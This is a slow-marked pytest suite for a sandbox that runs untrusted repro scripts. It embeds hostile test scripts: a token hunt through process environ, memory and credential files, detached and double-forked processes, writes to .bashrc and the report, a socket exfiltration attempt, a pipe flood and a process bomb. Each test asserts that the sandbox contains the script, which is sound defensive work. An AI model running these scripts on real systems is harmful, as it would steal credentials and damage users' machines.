"""The adversarial cases of the sandbox (docs/security.md), each run end to end through the CLI.

Every script here is one of the hostile repros of the security review: it hunts for the
token, escapes its arm, tampers with triage or a later run, or floods the control pipe.
Each test asserts what triage must do on any machine with the namespace sandbox; where a
script probes a place it must not write, it asks `os.access` instead of writing, so that a
broken sandbox fails the test without damaging the checkout.

Posting-side cases are in test_hostile_post.py, malformed arm outputs in
test_hostile_outputs.py, scripts that break the worker in test_hostile_scripts.py.
"""
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest

from tests.conftest import NOBODY, NobodyPython
from tests.github_server import FakeGitHub
from triage.sandbox import Confinement, Limits, isolation, run_isolated, scrubbed_environment

pytestmark = pytest.mark.slow
ROOT = Path(__file__).resolve().parent.parent
TOKEN = "ghp_SECRETmarker" + "0123456789"



@pytest.fixture(autouse=True)
def namespace_sandbox() -> None:
    """The point of every test here is the namespace sandbox (CI installs bubblewrap): each
    fails, saying why, where it is missing — never skipped."""
    if not isolation().strong:
        pytest.fail(f"the namespace sandbox is not available on this machine: {isolation().detail}", pytrace=False)


def _workspace(user: int | None) -> Path:
    """A folder for one run, reachable by `user` (pytest's own tmp dirs are root-only)."""
    path = Path(tempfile.mkdtemp(prefix="triage-hostile-"))
    if user is not None:
        os.chmod(path, 0o777)
    return path


def _as_user(user: int | None) -> list[str]:
    if user is None:
        return []
    return ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups"]


USERS = [None, pytest.param(NOBODY, id="uid65534")]


@pytest.fixture
def user_python(request, user: int | None) -> NobodyPython | None:
    """The interpreter `user` runs triage with: None (this one) for the test's own user; for
    uid 65534 one it can reach (conftest's `nobody_python`: this one may be in a private home)."""
    if user is None:
        return None
    if shutil.which("setpriv") is None:
        pytest.skip("setpriv (util-linux) is not installed: the tests cannot switch to uid 65534")
    return request.getfixturevalue("nobody_python")


def hostile_run(script: str, *args: str, user: int | None = None, env: dict[str, str] | None = None,
                command: str = "run", timeout: float = 300,
                python: NobodyPython | None = None) -> tuple[int, dict | None, str, Path, float]:
    """`triage run SCRIPT` (arms: cpu; no minimizer, ablation or reference unless asked) with
    the token in its environment and a HOME full of credentials; returns (exit code, report,
    terminal output, workspace, seconds). `user` runs it with `python` (the `user_python` fixture)."""
    assert (user is None) == (python is None), "a run as another user needs the interpreter that user can reach"
    work = _workspace(user)
    home = work / "home"
    (home / ".config" / "gh").mkdir(parents=True)
    (home / ".git-credentials").write_text(f"https://alice:{TOKEN}@github.com\n")
    (home / ".config" / "gh" / "hosts.yml").write_text(f"github.com:\n    oauth_token: {TOKEN}\n")
    (home / ".bashrc").write_text("# the user's shell setup\n")
    repro = work / "repro.py"
    # The caller's paths, written into the script as an attacker who read the Action would.
    repro.write_text(textwrap.dedent(script).replace("@CALLER_HOME@", repr(str(home)))
                     .replace("@WORK@", repr(str(work))))
    if user is not None:
        subprocess.run(["chown", "-R", f"{user}:{user}", str(work)], check=True)
    argv = [*_as_user(user), python.python if python else sys.executable, "-m", "triage", command, str(repro),
            "--json", str(work / "r.json"), "--comment", str(work / "c.md"), "--minimal", "-", "--arms", "cpu",
            "--no-minimize", "--no-ablate", "--no-reference", *args]
    full_env = dict(os.environ, GITHUB_TOKEN=TOKEN, HOME=str(home), XDG_CACHE_HOME=str(work / "cache"),
                    TRIAGE_CACHE_DIR=str(work / "cache" / "triage"))
    full_env.update(env or {})
    full_env.pop("TRIAGE_TEST_ARMS", None)
    if python:
        full_env = python.environment(full_env)
    started = time.monotonic()
    done = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, env=full_env, cwd=work)
    seconds = time.monotonic() - started
    report_path = work / "r.json"
    report = json.loads(report_path.read_text()) if report_path.exists() else None
    return done.returncode, report, done.stdout + done.stderr, work, seconds


def arm_stdout(report: dict) -> str:
    return report["arms"][0]["stdout"]


def processes_with(marker: str) -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            continue
    return found


TOKEN_HUNT = """
import os, re, torch
found = []
for pid in filter(str.isdigit, os.listdir('/proc')):
    try: env = open(f'/proc/{pid}/environ', 'rb').read()
    except OSError: continue
    for var in env.split(b'\\0'):
        if var.startswith(b'GITHUB_TOKEN=') and len(var) > 13:
            found.append(f'environ of pid {pid}: {var.decode(errors="replace")}')
pat = re.compile(b'ghp_' + b'SECRET[A-Za-z0-9]*')
for pid in filter(str.isdigit, os.listdir('/proc')):
    if int(pid) == os.getpid():
        continue  # its own memory holds the pattern it searches for
    try:
        maps = open(f'/proc/{pid}/maps').read().splitlines()
        with open(f'/proc/{pid}/mem', 'rb') as mem:
            for line in maps:
                addr, perms = line.split()[:2]
                if not perms.startswith('rw'): continue
                lo, hi = (int(x, 16) for x in addr.split('-'))
                if hi - lo > (256 << 20): continue
                try: mem.seek(lo); blob = mem.read(hi - lo)
                except (OSError, ValueError, OverflowError): continue
                found += [f'memory of pid {pid}: {m.group().decode()}' for m in pat.finditer(blob)]
    except OSError:
        pass
for root in {os.path.expanduser('~'), @CALLER_HOME@}:
    for p in ['.git-credentials', '.config/gh/hosts.yml']:
        try: found.append(f'{p}: ' + open(os.path.join(root, p)).read().strip())
        except OSError: pass
print('\\n'.join(found) if found else 'token not found')
print(torch.ones(3).sum().item())
"""


@pytest.mark.parametrize("user", USERS)
def test_case_011_014_token_hunt_finds_nothing(user, user_python):
    """S4/S5: environ and memory of every process, and the credential files of HOME."""
    code, report, out, work, _ = hostile_run(TOKEN_HUNT, user=user, python=user_python)
    assert code == 0, out
    stdout = arm_stdout(report)
    assert "token not found" in stdout and TOKEN not in stdout, stdout
    assert TOKEN not in (work / "c.md").read_text() and TOKEN not in json.dumps(report)


DETACHED = """
import os, subprocess, sys, torch
code = "import time; time.sleep(600)"
subprocess.Popen([sys.executable, '-c', code, '@MARKER@-popen'], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:            # double fork + setsid
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', code, '@MARKER@-double'])
    os._exit(0)
subprocess.Popen([sys.executable, '-c', code, '@MARKER@-fds'], start_new_session=True,
                 close_fds=False)  # holds triage's stdout, stderr and control pipes open
if os.fork() == 0:            # a child in a process group of its own
    os.setpgid(0, 0)
    os.execv(sys.executable, [sys.executable, '-c', code, '@MARKER@-pgid'])
print(torch.ones(3) * 2)
"""


def test_case_001_004_detached_processes_die_with_the_arm():
    marker = f"triage-detached-{uuid.uuid4().hex[:8]}"
    code, report, out, _, seconds = hostile_run(DETACHED.replace("@MARKER@", marker))
    assert code == 0, out
    assert report["arms"][0]["status"] == "ok"
    assert seconds < 30  # no wait on the pipes the leftover child held
    time.sleep(0.5)
    left = processes_with(marker)
    for pid in left:
        os.kill(pid, 9)
    assert not left, f"processes outlived the arm: {left}"


def test_case_019_nothing_rewrites_the_report_after_triage_exits():
    script = """
    import os, subprocess, sys, torch
    code = '''
import time, json
time.sleep(3)
for p in @PATHS@:
    try:
        open(p, 'w').write('{"verdict": "REWRITTEN after triage exited"}')
    except OSError:
        pass
'''
    subprocess.Popen([sys.executable, '-c', code], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print(torch.ones(3))
    """
    code, report, out, work, _ = hostile_run(script.replace("@PATHS@", "[@WORK@ + '/r.json', '/proc/1/cwd/r.json']"))
    before = (work / "r.json").read_text()
    time.sleep(4)
    assert (work / "r.json").read_text() == before


def test_case_005_memory_of_a_child_in_its_own_group_counts():
    script = """
    import os, subprocess, sys, time, torch
    code = "import time, os; os.setpgid(0, 0); b = bytearray(900 << 20); [b.__setitem__(i, 1) for i in range(0, len(b), 4096)]; time.sleep(60)"
    subprocess.Popen([sys.executable, '-c', code], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(30)
    print(torch.ones(3) * 2)
    """
    code, report, out, _, seconds = hostile_run(script, "--memory", "700M")
    arm = report["arms"][0]
    assert arm["status"] == "crashed" and "memory" in arm["failure"], arm["failure"]
    assert seconds < 30


def test_case_007_008_the_parent_is_out_of_reach():
    """Signals to the parent: inside the PID namespace, the parent is the sandbox's own init."""
    script = """
    import os, signal, torch
    print(torch.ones(2))
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(os.getppid(), sig)
        except OSError as e:
            print('refused', e)
    print('still here')
    """
    code, report, out, _, seconds = hostile_run(script, "--timeout", "20")
    assert report is not None, out  # triage itself was not stopped or killed
    assert seconds < 60


@pytest.mark.parametrize("user", USERS)
def test_case_015_016_installed_triage_and_checkout_are_read_only(user, user_python):
    """S2: the repro edits triage's installed code (imported later while the token is held),
    or, with an editable install, the checkout and its git hooks."""
    import triage
    import triage.templates

    # The triage that runs: this checkout's, or for another user the copy its interpreter imports.
    package, templates = ((user_python.triage, user_python.triage / "templates") if user_python else
                          (Path(triage.__file__).parent, Path(triage.templates.__file__).parent))
    targets = [str(package / "classify" / "ladder.py"), str(templates / "__init__.py"), str(package),
               str(ROOT / ".git" / "hooks"), str(ROOT / "pyproject.toml")]
    script = f"""
    import os, torch
    for path in {targets!r}:
        print(path, 'WRITABLE' if os.access(path, os.W_OK) else 'read-only')
    import triage
    print('triage package', 'WRITABLE' if os.access(os.path.dirname(triage.__file__), os.W_OK) else 'read-only')
    print('site-packages', 'WRITABLE' if os.access(os.path.dirname(torch.__file__), os.W_OK) else 'read-only')
    print(torch.ones(2))
    """
    code, report, out, _, _ = hostile_run(script, user=user, python=user_python)
    stdout = arm_stdout(report)
    assert stdout.count("read-only") == len(targets) + 2 and "WRITABLE" not in stdout, stdout


def test_case_017_collect_env_cache_comes_from_triage_not_the_arm():
    """S8: the arm can neither write the cache nor forge what is cached."""
    cache = _workspace(None) / "triage-cache"
    code, first, out, _, _ = hostile_run("import torch\nprint(torch.ones(1))\n", env={"TRIAGE_CACHE_DIR": str(cache)})
    cached = sorted(cache.glob("collect_env-*.txt"))
    assert cached and first["arms"][0]["environment"] == cached[0].read_text()
    before = cached[0].read_text()
    script = f"""
    import glob, os, torch
    for p in glob.glob({str(cache)!r} + '/collect_env-*.txt'):
        try:
            open(p, 'w').write('GPU models and configuration: GPU 0: NVIDIA A100-SXM4-40GB')
            print('WROTE', p)
        except OSError as e:
            print('refused', e)
    print('cache visible' if os.path.exists({str(cache)!r}) else 'cache absent')
    print(torch.ones(2))
    """
    code, second, out, _, _ = hostile_run(script, env={"TRIAGE_CACHE_DIR": str(cache)})
    assert "WROTE" not in arm_stdout(second)
    assert cached[0].read_text() == before
    assert second["arms"][0]["environment"] == before


def test_case_018_bashrc_and_triages_folder_are_not_written():
    """Writes to the caller's HOME and to triage's working folder (its path named in the
    script) land, at most, in the arm's own scratch directory."""
    script = """
    import os, torch
    for p in [os.path.expanduser('~/.bashrc'), @CALLER_HOME@ + '/.bashrc', @WORK@ + '/planted.txt']:
        try:
            with open(p, 'a') as f:
                f.write('planted by the repro\\n')
            print('wrote', p)
        except OSError as e:
            print('refused', p, e.strerror)
    print(torch.ones(2))
    """
    code, report, out, work, _ = hostile_run(script)
    assert (work / "home" / ".bashrc").read_text() == "# the user's shell setup\n"
    assert not (work / "planted.txt").exists()


def test_case_020_no_network():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    accepted = []

    def accept() -> None:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and not accepted:
            try:
                accepted.append(server.accept())
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    script = f"""
    import socket, torch
    try:
        socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'exfiltrated')
        print('CONNECTED')
    except OSError as e:
        print('refused', e)
    print(torch.ones(2))
    """
    code, report, out, _, _ = hostile_run(script)
    accepted_now = list(accepted)
    server.close()
    assert "CONNECTED" not in arm_stdout(report) and not accepted_now


def test_case_025_phase_messages_do_not_extend_the_timeout():
    """R1: every phase re-sent every half second.  A phase moves the deadline once, in order,
    so the script ends by --timeout plus the allowance of the phases after it, which with
    --no-reference is 20 s — not after its 60 s loop."""
    script = """
    import os, time, torch
    fd = None
    for kv in open('/proc/self/environ', 'rb').read().split(b'\\0'):
        if kv.startswith(b'TRIAGE_CONTROL_FD='):
            fd = int(kv.split(b'=')[1])
    t0 = time.time()
    while time.time() - t0 < 60:
        for phase in ('script-start', 'imported', 'script-done', 'reference-start'):
            try:
                os.write(fd, ('{"phase": "%s"}\\n' % phase).encode())
            except (OSError, TypeError):
                pass
        time.sleep(0.5)
    print(torch.ones(3))
    """
    code, report, out, _, seconds = hostile_run(script, "--timeout", "4")
    assert report["arms"][0]["status"] == "timeout", report["arms"][0]
    assert seconds < 40


def test_case_029_control_line_flood_keeps_triage_small():
    """R4: a 400 MB line on the control pipe; triage's own memory stays bounded."""
    script = """
    import os, torch
    fd = None
    for kv in open('/proc/self/environ', 'rb').read().split(b'\\0'):
        if kv.startswith(b'TRIAGE_CONTROL_FD='):
            fd = int(kv.split(b'=')[1])
    chunk = b'x' * (1 << 20)
    for _ in range(400):
        os.write(fd, chunk)
    os.write(fd, b'\\n')
    print(torch.ones(3) * 2)
    """
    peak = _peak_rss_of(lambda: hostile_run(script))
    assert peak < 400 << 20, f"triage's own peak RSS {peak >> 20} MiB"


def _peak_rss_of(run) -> int:
    """Peak resident memory of the `triage` process that `run` starts (polled): a child of this
    process, not another test's triage (pytest-xdist runs two tests at once)."""
    peak = [0]
    stop = threading.Event()
    me = f"PPid:\t{os.getpid()}"

    def poll() -> None:
        while not stop.is_set():
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    cmd = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
                    if len(cmd) > 2 and cmd[1:3] == [b"-m", b"triage"]:
                        status = Path(f"/proc/{pid}/status").read_text().splitlines()
                        if me not in status:
                            continue
                        for line in status:
                            if line.startswith("VmRSS:"):
                                peak[0] = max(peak[0], int(line.split()[1]) * 1024)
                except OSError:
                    continue
            time.sleep(0.05)

    thread = threading.Thread(target=poll, daemon=True)
    thread.start()
    try:
        code, report, out, _, _ = run()
        assert report is not None, out
    finally:
        stop.set()
        thread.join()
    return peak[0]


def test_case_062_a_thread_that_outlives_the_script_keeps_the_result():
    """R6: a non-daemon thread sleeping 1000 s; the result is kept, in seconds."""
    script = """
    import threading, time, torch
    threading.Thread(target=lambda: time.sleep(1000)).start()
    x = torch.ones(3) * 2
    print(x)
    """
    code, report, out, _, seconds = hostile_run(script, "--timeout", "20")
    arm = report["arms"][0]
    assert arm["status"] == "ok", arm
    assert seconds < 60


def test_process_bomb_is_stopped():
    script = """
    import subprocess, sys, time, torch
    print(torch.ones(1))
    children = [subprocess.Popen(['sleep', '60']) for _ in range(700)]
    time.sleep(60)
    """
    code, report, out, _, seconds = hostile_run(script, "--timeout", "120")
    arm = report["arms"][0]
    assert arm["status"] == "crashed" and "processes" in arm["failure"], arm
    assert seconds < 60


def test_disk_is_bounded(tmp_path):
    """Files written to the scratch directory (its /tmp, HOME and /dev/shm included) count."""
    code = ("import os\nfor where in ('/tmp', os.path.expanduser('~'), '/dev/shm'):\n"
            "    with open(os.path.join(where, 'fill'), 'wb') as f:\n"
            "        for _ in range(40): f.write(os.urandom(1 << 20))\n"
            "import time; time.sleep(30)\n")
    out = run_isolated([sys.executable, "-c", code], jail=Confinement(str(tmp_path), str(tmp_path / "work")),
                       env=scrubbed_environment(), isolation=isolation(),
                       limits=Limits(timeout_s=60, memory_bytes=2 << 30, output_bytes=1 << 16, disk_bytes=100 << 20))
    assert out.limit_exceeded == "disk" and out.elapsed_s < 20


@pytest.mark.parametrize("token_from", ["environment", "file"])
def test_case_010_012_issue_post_as_root_does_not_leak_the_token(token_from):
    """S3/S4 with posting: the hunt runs in the issue's repro while `triage issue --post` holds
    the token (from GITHUB_TOKEN, or read from --token-file only when posting); the posted
    comment must not contain it."""
    github = FakeGitHub().start()
    try:
        body = "Numbers differ:\n\n```python\n" + TOKEN_HUNT.replace("@CALLER_HOME@", "'/root'") + "```\n"
        github.add_issue("octo/demo", 11, body, labels=["bot: triage"])
        github.users[TOKEN] = "triage-bot"
        work = _workspace(None)
        env = dict(os.environ, HOME=str(work), TRIAGE_CACHE_DIR=str(work / "cache"))
        token_args = []
        if token_from == "environment":
            env["GITHUB_TOKEN"] = TOKEN
        else:
            (work / "token").write_text(TOKEN + "\n")
            token_args = ["--token-file", str(work / "token")]
        done = subprocess.run([sys.executable, "-m", "triage", "issue", "octo/demo#11", "--post", "--api-url",
                               github.api_url, "--out", str(work / "out"), "--arms", "cpu", "--no-minimize",
                               "--no-ablate", "--no-reference", "--quiet", "--trigger-label", "bot: triage",
                               *token_args],
                              capture_output=True, text=True, env=env, timeout=300, cwd=work)
        comments = github.comments_on("octo/demo", 11)
        assert comments, done.stdout + done.stderr
        assert TOKEN not in comments[0]["body"]
        assert "token not found" in comments[0]["body"]
    finally:
        github.stop()


def test_case_072_arms_running_different_code_are_not_rounding():
    """U1: a code path that depends on the arm (here the thread count) makes the arms compute
    different things; each is inside its own rounding spread, but their float64 replays
    differ: not rounding."""
    script = """
    import torch
    y = torch.exp(torch.linspace(1, 2, 8))
    if torch.get_num_threads() == 1:
        y = y * 1.01
    print(y)
    """
    work = _workspace(None)
    repro = work / "repro.py"
    repro.write_text(textwrap.dedent(script))
    done = subprocess.run([sys.executable, "-m", "triage", "run", str(repro), "--arms", "cpu/threads=2,cpu/threads=1",
                           "--json", str(work / "r.json"), "--comment", "-", "--minimal", "-", "--no-minimize",
                           "--no-ablate", "--quiet"], capture_output=True, text=True, cwd=work, timeout=300)
    verdict = json.loads((work / "r.json").read_text())["verdict"]
    assert verdict["kind"] == "likely-bug" and verdict["expected"] is False, done.stdout + done.stderr
    assert "different computations" in verdict["summary"]
